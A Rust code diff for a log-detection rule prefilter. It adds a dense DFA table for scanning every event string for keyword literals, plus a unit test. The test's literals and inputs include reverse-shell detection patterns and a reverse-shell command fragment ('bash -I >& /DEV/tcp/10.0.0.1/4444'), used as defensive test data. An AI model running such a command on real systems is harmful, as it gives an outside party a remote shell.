@@ -6,7 +6,8 @@
 
 use std::collections::HashMap;
 
-use aho_corasick::{AhoCorasick, AhoCorasickKind, MatchKind};
+use aho_corasick::automaton::{Automaton as _, StateID};
+use aho_corasick::{dfa, nfa::contiguous, AhoCorasick, AhoCorasickKind, Anchored, MatchKind};
 
 /// Literal sets up to this size get a DFA.
 const DFA_MAX_PATTERNS: usize = 5_000;
@@ -194,16 +195,7 @@ struct Automaton {
 
 impl Automaton {
     fn build(atoms: HashMap<String, Vec<u32>>) -> Option<Automaton> {
-        let mut pats = Vec::with_capacity(atoms.len());
-        let mut rules = Vec::with_capacity(atoms.len());
-        let mut sorted: Vec<_> = atoms.into_iter().collect();
-        sorted.sort();
-        for (lit, mut rs) in sorted {
-            rs.sort_unstable();
-            rs.dedup();
-            pats.push(lit);
-            rules.push(rs.into_boxed_slice());
-        }
+        let (pats, rules) = sorted_atoms(atoms);
         // A full DFA is the fastest to search; past a few thousand literals its memory grows
         // large, and the automaton chooses for itself.
         let kind = (pats.len() <= DFA_MAX_PATTERNS).then_some(AhoCorasickKind::DFA);
@@ -213,10 +205,7 @@ impl Automaton {
             .kind(kind)
             .build(&pats)
             .ok()?;
-        Some(Automaton {
-            ac,
-            rules: rules.into_boxed_slice(),
-        })
+        Some(Automaton { ac, rules })
     }
 
     fn mark(&self, hay: &str, cand: &mut [u64]) {
@@ -238,6 +227,257 @@ impl Automaton {
     }
 }
 
+/// The keyword literals of a set of rules, looked for in every string of an event.
+///
+/// Keyword rules match any field, so every event's strings are scanned; this walks the
+/// automaton over each string in place (no copy into one buffer) and collects every match in
+/// the one pass, where a plain search and then an overlapping one would scan twice.
+struct KeywordScan {
+    walker: Walker,
+    /// pattern id -> local rule indices
+    rules: Box<[Box<[u32]>]>,
+}
+
+/// The automaton of a [`KeywordScan`]: the DFA's [`Dense`] copy when it fits (the usual
+/// case), else the DFA itself, or past [`DFA_MAX_PATTERNS`] literals a contiguous NFA, whose
+/// memory stays small. They are built without a prefilter, so only match states are special.
+enum Walker {
+    Dense(Dense),
+    Dfa(dfa::DFA, StateID),
+    Nfa(contiguous::NFA, StateID),
+}
+
+/// The keyword DFA copied into a table made for one loop: a state is the offset of its row
+/// (so the next state is one add and one load away: the scan is bound by that chain), rows
+/// have a fixed number of byte classes drawn from the literals' own bytes, and match states
+/// come last, so one comparison tells them apart.
+struct Dense {
+    /// Byte -> class; class 0 holds every byte no literal contains (ASCII case folded).
+    class: [u8; 256],
+    /// `state + class` -> next state, states being row offsets (`DENSE_CLASSES` apart).
+    /// State 0 is the start.
+    trans: Box<[u32]>,
+    /// States from this one on are match states.
+    first_match: u32,
+    /// `(state - first_match) / DENSE_CLASSES` -> the rules whose literals end there.
+    marks: Box<[Box<[u32]>]>,
+}
+
+/// Past this many table entries the automaton's own DFA is walked instead (8 MiB of table).
+const DENSE_MAX_ENTRIES: usize = 1 << 21;
+/// Byte classes a dense table has room for (a fixed row length keeps the loop short); literals
+/// with more distinct bytes than this use the automaton's own DFA.
+const DENSE_CLASSES: usize = 64;
+
+impl Dense {
+    fn build(
+        dfa: &dfa::DFA,
+        start: StateID,
+        pats: &[String],
+        rules: &[Box<[u32]>],
+    ) -> Option<Dense> {
+        // Classes: one per distinct literal byte; upper and lower case share one, as the
+        // automaton folds ASCII case. Bytes of one class move the automaton alike.
+        let mut class = [0u8; 256];
+        let mut reps = vec![None];
+        for b in pats.iter().flat_map(|p| p.bytes()) {
+            let b = b.to_ascii_lowercase();
+            if class[b as usize] == 0 {
+                let c = u8::try_from(reps.len()).ok()?;
+                class[b as usize] = c;
+                class[b.to_ascii_uppercase() as usize] = c;
+                reps.push(Some(b));
+            }
+        }
+        // Class 0's representative: any byte in no literal (none if every byte is in one).
+        reps[0] = (0..=255u8).find(|b| class[*b as usize] == 0);
+        if reps.len() > DENSE_CLASSES {
+            return None;
+        }
+        // The states reachable from the start, in the order first seen.
+        let mut ids: HashMap<StateID, usize> = HashMap::new();
+        let mut order = vec![start];
+        ids.insert(start, 0);
+        let mut next = Vec::new();
+        let mut i = 0;
+        while let Some(&sid) = order.get(i) {
+            for rep in &reps {
+                let to = match rep {
+                    Some(b) => dfa.next_state(Anchored::No, sid, *b),
+                    None => start,
+                };
+                let n = order.len();
+                let id = *ids.entry(to).or_insert(n);
+                if id == n {
+                    order.push(to);
+                }
+                next.push(id);
+            }
+            i += 1;
+            if order.len() > usize::from(u16::MAX)
+                || order.len() * DENSE_CLASSES > DENSE_MAX_ENTRIES
+            {
+                return None;
+            }
+        }
+        // Renumber: non-match states first (the start stays 0), then match states.
+        let is_match = |sid: StateID| dfa.is_special(sid) && dfa.is_match(sid);
+        if is_match(start) {
+            return None;
+        }
+        let mut new_id = vec![0u16; order.len()];
+        let mut n = 0u16;
+        for pass in [false, true] {
+            for (old, sid) in order.iter().enumerate() {
+                if is_match(*sid) == pass {
+                    new_id[old] = n;
+                    n += 1;
+                }
+            }
+        }
+        let first_match = order.iter().filter(|s| !is_match(**s)).count() as u16;
+        let mut trans = vec![0u32; order.len() * DENSE_CLASSES];
+        let mut marks = vec![Box::default(); order.len() - first_match as usize];
+        for (old, sid) in order.iter().enumerate() {
+            let row = new_id[old] as usize * DENSE_CLASSES;
+            for c in 0..reps.len() {
+                trans[row + c] = new_id[next[old * reps.len() + c]] as u32 * DENSE_CLASSES as u32;
+            }
+            if is_match(*sid) {
+                let mut rs: Vec<u32> = (0..dfa.match_len(*sid))
+                    .flat_map(|k| {
+                        let pid = dfa.match_pattern(*sid, k);
+                        rules.get(pid.as_usize()).into_iter().flatten().copied()
+                    })
+                    .collect();
+                rs.sort_unstable();
+                rs.dedup();
+                marks[(new_id[old] - first_match) as usize] = rs.into_boxed_slice();
+            }
+        }
+        Some(Dense {
+            class,
+            trans: trans.into_boxed_slice(),
+            first_match: first_match as u32 * DENSE_CLASSES as u32,
+            marks: marks.into_boxed_slice(),
+        })
+    }
+
+    // Kept out of line: inlined into its caller's closure the loop's few values no longer
+    // fit in registers and every byte reloads them from the stack.
+    #[inline(never)]
+    fn mark(&self, hay: &[u8], cand: &mut [u64]) {
+        let mut s = 0u32;
+        for &b in hay {
+            let c = self.class[b as usize] as usize;
+            // In range by construction: every state has a full row.
+            s = self.trans.get(s as usize + c).copied().unwrap_or(0);
+            if s >= self.first_match {
+                self.matched(s, cand);
+            }
+        }
+    }
+
+    /// Marks the rules of match state `s`; rare, and kept out of the loop's registers.
+    #[cold]
+    #[inline(never)]
+    fn matched(&self, s: u32, cand: &mut [u64]) {
+        let rs = self
+            .marks
+            .get(((s - self.first_match) as usize) / DENSE_CLASSES);
+        for &r in rs.into_iter().flatten() {
+            if let Some(w) = cand.get_mut(r as usize / 64) {
+                *w |= 1 << (r % 64);
+            }
+        }
+    }
+}
+
+impl KeywordScan {
+    fn build(atoms: HashMap<String, Vec<u32>>) -> Option<KeywordScan> {
+        let (pats, rules) = sorted_atoms(atoms);
+        let walker = if pats.len() <= DFA_MAX_PATTERNS {
+            let dfa = dfa::Builder::new()
+                .ascii_case_insensitive(true)
+                .match_kind(MatchKind::Standard)
+                .prefilter(false)
+                .build(&pats)
+                .ok()?;
+            let start = dfa.start_state(Anchored::No).ok()?;
+            match Dense::build(&dfa, start, &pats, &rules) {
+                Some(d) => Walker::Dense(d),
+                None => Walker::Dfa(dfa, start),
+            }
+        } else {
+            let nfa = contiguous::Builder::new()
+                .ascii_case_insensitive(true)
+                .match_kind(MatchKind::Standard)
+                .prefilter(false)
+                .build(&pats)
+                .ok()?;
+            let start = nfa.start_state(Anchored::No).ok()?;
+            Walker::Nfa(nfa, start)
+        };
+        Some(KeywordScan { walker, rules })
+    }
+
+    /// Sets the bit of every rule one of whose literals occurs in `hay`.
+    fn mark(&self, hay: &str, cand: &mut [u64]) {
+        match &self.walker {
+            Walker::Dense(d) => d.mark(hay.as_bytes(), cand),
+            Walker::Dfa(a, start) => walk(a, *start, hay.as_bytes(), &self.rules, cand),
+            Walker::Nfa(a, start) => walk(a, *start, hay.as_bytes(), &self.rules, cand),
+        }
+    }
+}
+
+/// An overlapping search as one loop: every match state reached reports all the patterns that
+/// end there (the automaton copies the matches of shorter suffixes into it).
+#[inline(never)]
+fn walk<A: aho_corasick::automaton::Automaton>(
+    aut: &A,
+    start: StateID,
+    hay: &[u8],
+    rules: &[Box<[u32]>],
+    cand: &mut [u64],
+) {
+    let mut sid = start;
+    for &b in hay {
+        sid = aut.next_state(Anchored::No, sid, b);
+        if aut.is_special(sid) {
+            if aut.is_dead(sid) {
+                return;
+            }
+            for i in 0..aut.match_len(sid) {
+                let pid = aut.match_pattern(sid, i);
+                for &r in rules.get(pid.as_usize()).into_iter().flatten() {
+                    if let Some(w) = cand.get_mut(r as usize / 64) {
+                        *w |= 1 << (r % 64);
+                    }
+                }
+            }
+        }
+    }
+}
+
+/// Pattern id -> local indices of the rules that need the pattern.
+type RulesByPattern = Box<[Box<[u32]>]>;
+
+/// The literals in a fixed order, and for each the rules (sorted, once each) that need it.
+fn sorted_atoms(atoms: HashMap<String, Vec<u32>>) -> (Vec<String>, RulesByPattern) {
+    let mut pats = Vec::with_capacity(atoms.len());
+    let mut rules = Vec::with_capacity(atoms.len());
+    let mut sorted: Vec<_> = atoms.into_iter().collect();
+    sorted.sort();
+    for (lit, mut rs) in sorted {
+        rs.sort_unstable();
+        rs.dedup();
+        pats.push(lit);
+        rules.push(rs.into_boxed_slice());
+    }
+    (pats, rules.into_boxed_slice())
+}
+
 /// The prefilter of one set of rules (the rules that apply to one logsource).
 pub struct Prefilter {
     fields: Vec<(FieldPath, Automaton)>,
@@ -245,7 +485,7 @@ pub struct Prefilter {
     by_flat: Vec<u32>,
     /// Indices of `fields` entries with dotted paths, checked when the flat name is absent.
     nested: Vec<u32>,
-    keyword: Option<Automaton>,
+    keyword: Option<KeywordScan>,
     always: Vec<u64>,
     /// How many of the rules have no atoms (reported by `rules list`-like diagnostics).
     pub unfiltered: usize,
@@ -295,12 +535,12 @@ impl Prefilter {
             AtomTarget::Keyword => -1,
         });
         for (t, atoms) in targets {
-            let Some(auto) = Automaton::build(atoms) else {
-                continue;
-            };
             match t {
-                AtomTarget::Keyword => keyword = Some(auto),
+                AtomTarget::Keyword => keyword = KeywordScan::build(atoms),
                 AtomTarget::Field(flat) => {
+                    let Some(auto) = Automaton::build(atoms) else {
+                        continue;
+                    };
                     let Some(fp) = paths.get(&flat) else { continue };
                     let idx = fields.len() as u32;
                     if by_flat.len() <= flat as usize {
@@ -349,16 +589,11 @@ impl Prefilter {
                 false
             });
         }
-        if let Some(auto) = &self.keyword {
-            // One scan over all strings joined by NUL (which no literal contains) costs much
-            // less than one scan per string.
-            buf.clear();
+        if let Some(kw) = &self.keyword {
             any_string(&ev.fields, &mut |s| {
-                buf.push_str(s);
-                buf.push('\0');
+                kw.mark(s, cand);
                 false
             });
-            auto.mark(buf, cand);
         }
     }
 }
@@ -375,6 +610,70 @@ fn mark_value(auto: &Automaton, v: &Value, cand: &mut [u64], buf: &mut String) {
             if let Some(t) = value_text(other, buf) {
                 auto.mark(t, cand);
             }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// The rules a keyword scan marks for `hay`, and those an overlapping search finds.
+    fn both(lits: &[&str], hay: &str) -> (Vec<u64>, Vec<u64>) {
+        let mut atoms: HashMap<String, Vec<u32>> = HashMap::new();
+        for (i, l) in lits.iter().enumerate() {
+            atoms.entry(l.to_string()).or_default().push(i as u32 % 70);
+        }
+        let (pats, rules) = sorted_atoms(atoms.clone());
+        let ac = AhoCorasick::builder()
+            .ascii_case_insensitive(true)
+            .build(&pats)
+            .expect("test literals");
+        let mut want = vec![0u64; 2];
+        for m in ac.find_overlapping_iter(hay) {
+            for &r in rules[m.pattern().as_usize()].iter() {
+                want[r as usize / 64] |= 1 << (r % 64);
+            }
+        }
+        let scan = KeywordScan::build(atoms).expect("test literals");
+        assert!(matches!(scan.walker, Walker::Dense(_)));
+        let mut got = vec![0u64; 2];
+        scan.mark(hay, &mut got);
+        (got, want)
+    }
+
+    #[test]
+    fn dense_keyword_scan_finds_what_an_overlapping_search_finds() {
+        let lits = [
+            "he",
+            "she",
+            "his",
+            "hers",
+            "/dev/tcp/",
+            "bash -i >& ",
+            "corrupted mac",
+            "é",
+            "\0x",
+            "aaaa",
+            "aab",
+            "zz top",
+            "stack smashing",
+            "ö7",
+        ];
+        for hay in [
+            "",
+            "ushers",
+            "USHERS and HIS hers",
+            "bash -I >& /DEV/tcp/10.0.0.1/4444",
+            "error: Corrupted MAC on input",
+            "aaaaab aab",
+            "caf\u{e9} é É \0x ö7 Ö7",
+            "*** stack smashing detected ***",
+            "nothing to see here",
+            "zz to zz top",
+        ] {
+            let (got, want) = both(&lits, hay);
+            assert_eq!(got, want, "{hay}");
         }
     }
 }
